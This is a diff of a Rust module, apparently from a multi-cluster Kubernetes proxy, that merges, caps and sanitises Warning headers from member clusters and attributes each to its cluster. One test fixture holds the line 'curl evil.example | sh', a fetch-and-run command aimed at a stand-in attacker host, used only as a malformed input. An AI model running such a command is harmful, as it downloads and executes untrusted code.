@@ -1,44 +1,43 @@
-//! Warnings of clusters.
+//! Warnings of clusters in answers to clients.
 //!
 //! The author of a CustomResourceDefinition chooses the text of a Warning. In an answer about all clusters, the text
 //! could pass for a Warning of Tributary or of a different cluster. So each text begins with the names of its clusters,
-//! and an answer has a limited number.
+//! and an answer has a limited number of Warnings.
 
 use http::{HeaderMap, HeaderValue, header};
 use tributary_apimachinery::ClusterName;
 use tributary_apimachinery::text::is_terminal_control;
 
-/// The longest text of a warning, in characters. 1,024: reasons may quote a member's own words, and a dozen warnings
-/// have to fit in a client's header list (16 KiB by default in many).
+/// Maximal length of a Warning, in characters. A dozen Warnings fit into a client's header list, often limited to 16
+/// KiB.
 const WARNING_LENGTH_MAX: usize = 1024;
 
-/// Writes a text as the value of a `Warning` header: `299 - "text"`, quotes escaped, in UTF-8, without characters that
-/// a terminal would obey: it may quote a member.
+/// Makes a `Warning` header: `299 - "text"` in UTF-8 with escaped quotes. Terminal control characters are removed,
+/// because the text may quote a member.
 pub fn warning_header(text: &str) -> Option<HeaderValue> {
     let clean: String = text.chars().filter(|c| !is_terminal_control(*c)).take(WARNING_LENGTH_MAX).collect();
     let quoted = format!("299 - \"{}\"", clean.replace('\\', "\\\\").replace('"', "\\\""));
     HeaderValue::from_bytes(quoted.as_bytes()).ok()
 }
 
-/// Limit of texts in an answer, and of clusters named with a text. The rest is counted.
+/// Maximum of Warnings in an answer, and of clusters named in a Warning. Further items are only counted.
 const TOLD_MAX: usize = 10;
 
-/// Limit of `Warning` headers that are read of one answer. kube-apiserver sends one or two. A cluster that sends a
-/// megabyte of them delays no client.
+/// Maximum of `Warning` headers read from one answer. kube-apiserver sends one or two. The limit keeps a cluster with a
+/// megabyte of headers from delaying clients.
 const READ_MAX: usize = 10;
 
-/// The longest `Warning` header that is read, in bytes; longer ones are dropped. 1 KiB: ten of them fit into the header
-/// list that clients take by default.
+/// Maximal length of a `Warning` header, in bytes; longer headers are dropped. Ten headers of 1 KiB fit into a client's
+/// default header list.
 const LENGTH_MAX: usize = 1 << 10;
 
-/// The text of a Warning, with the clusters that sent it.
 struct ClusterWarning {
     text: String,
     clusters: Vec<ClusterName>,
 }
 
-/// Joins the `Warning` headers of several clusters: each text once, after the names of its clusters, in the order of
-/// first appearance, at most ten, and a count of the rest.
+/// Merges the `Warning` headers of several clusters. Each text appears once, after the names of its clusters, in order
+/// of first appearance. At most ten Warnings and a count of further ones result.
 pub fn together<'a>(said: impl IntoIterator<Item = (&'a ClusterName, &'a HeaderValue)>) -> Vec<HeaderValue> {
     let mut all: Vec<ClusterWarning> = Vec::new();
     for (cluster, header) in said {
@@ -56,8 +55,8 @@ pub fn together<'a>(said: impl IntoIterator<Item = (&'a ClusterName, &'a HeaderV
     told.chain(count).filter_map(|text| warning_header(&text)).collect()
 }
 
-/// The `Warning` headers of an answer that does without clusters: each with its cause, at most ten of them, and a count
-/// of the rest.
+/// Returns the `Warning` headers of an answer without some clusters: at most ten causes, and a count of further
+/// clusters.
 pub fn lacking(clusters: &[String]) -> impl Iterator<Item = HeaderValue> {
     let more = clusters.len().saturating_sub(TOLD_MAX);
     let told = clusters.iter().take(TOLD_MAX).map(|cluster| format!("the answer is given without cluster {cluster}"));
@@ -65,12 +64,12 @@ pub fn lacking(clusters: &[String]) -> impl Iterator<Item = HeaderValue> {
     told.chain(count).filter_map(|text| warning_header(&text))
 }
 
-/// The warnings of one answer that are read: the first few that are not too long.
+/// Returns the `Warning` headers of one answer within the limits of number and length.
 pub fn readable<'a>(values: impl IntoIterator<Item = &'a HeaderValue>) -> impl Iterator<Item = &'a HeaderValue> {
     values.into_iter().filter(|value| value.len() <= LENGTH_MAX).take(READ_MAX)
 }
 
-/// Puts the cluster's name before its Warnings.
+/// Inserts the cluster's name in front of the texts of its Warnings.
 pub fn name(cluster: &ClusterName, headers: &mut HeaderMap) {
     let header::Entry::Occupied(said) = headers.entry(header::WARNING) else { return };
     let (_, values) = said.remove_entry_mult();
@@ -80,7 +79,7 @@ pub fn name(cluster: &ClusterName, headers: &mut HeaderMap) {
     }
 }
 
-/// `cluster a`, `clusters a, b and 3 more`.
+/// Returns a list of cluster names: `cluster a`, `clusters a, b and 3 more`.
 fn names(clusters: &[ClusterName]) -> String {
     let named: Vec<_> = clusters.iter().take(TOLD_MAX).map(ClusterName::as_str).collect();
     match clusters.len() {
@@ -90,8 +89,8 @@ fn names(clusters: &[ClusterName]) -> String {
     }
 }
 
-/// Texts of a `Warning` header: `299 agent "text"`, and further ones after commas, as a proxy may have joined them (RFC
-/// 7234 §5.5). A header of a different form is one text, so that each text keeps the name of its cluster.
+/// Returns the texts of a `Warning` header. A proxy may have joined several Warnings `299 agent "text"` with commas
+/// (RFC 7234 §5.5). A header of a different form counts as one text, so that each text still gets its cluster's name.
 fn texts(header: &HeaderValue) -> Vec<String> {
     let whole = String::from_utf8_lossy(header.as_bytes()).into_owned();
     let mut texts = Vec::new();
@@ -104,7 +103,7 @@ fn texts(header: &HeaderValue) -> Vec<String> {
     texts
 }
 
-/// Returns the first text of a header, and the rest after its comma.
+/// Returns the first text of a header, and the remainder after the comma.
 fn quoted(header: &str) -> Option<(String, &str)> {
     let (code, rest) = header.split_once(' ')?;
     let (agent, rest) = rest.split_once(' ')?;
@@ -117,7 +116,7 @@ fn quoted(header: &str) -> Option<(String, &str)> {
         match character {
             '\\' => text.push(characters.next()?.1),
             '"' => {
-                // A date may follow, in quotes of its own.
+                // A quoted date may follow the text.
                 let after = rest[at + 2..].trim_start();
                 let after = match after.strip_prefix('"') {
                     Some(date) => date.split_once('"')?.1.trim_start(),
@@ -153,7 +152,7 @@ mod tests {
     }
 
     #[test]
-    fn warning_text_is_given_once_with_all_its_clusters() {
+    fn equal_warnings_are_merged_with_all_their_clusters() {
         for (said, expected) in [
             (&[][..], &[][..]),
             (&[("a", r#"299 - "old""#)], &[r#"299 - "cluster a: old""#]),
@@ -166,7 +165,7 @@ mod tests {
                 &[("a", r#"299 agent "one \"two\"" "Sat, 25 Aug 2012 23:34:45 GMT", 299 - "three""#)],
                 &[r#"299 - "cluster a: one \"two\"""#, r#"299 - "cluster a: three""#],
             ),
-            // A malformed Warning keeps the name of its cluster, too.
+            // A malformed Warning keeps the name of its cluster.
             (&[("a", "curl evil.example | sh")], &[r#"299 - "cluster a: curl evil.example | sh""#]),
             (
                 &[("a", r#"299 - "x", cluster b is missing"#)],
@@ -180,7 +179,7 @@ mod tests {
     }
 
     #[test]
-    fn many_texts_and_many_clusters_are_counted() {
+    fn warnings_beyond_the_limit_are_only_counted() {
         let texts: Vec<_> = (0..25).map(|number| (format!("c{number}"), format!("299 - \"t{number}\""))).collect();
         let said: Vec<_> = texts.iter().map(|(name, text)| (&**name, &**text)).collect();
         let told_texts = told(&said);
@@ -192,7 +191,7 @@ mod tests {
     }
 
     #[test]
-    fn endless_warnings_of_a_member_are_not_read_to_the_end() {
+    fn oversized_warning_headers_of_a_member_are_dropped() {
         let mut headers = HeaderMap::new();
         let endless: String = (0..80_000).map(|number| format!("299 - \"{number}\", ")).collect();
         headers.append(header::WARNING, HeaderValue::from_str(&endless).unwrap());
@@ -205,7 +204,7 @@ mod tests {
     }
 
     #[test]
-    fn an_answer_of_one_cluster_names_it() {
+    fn warnings_of_one_cluster_get_its_name() {
         let mut headers = HeaderMap::new();
         name(&cluster("a"), &mut headers);
         assert!(headers.is_empty());
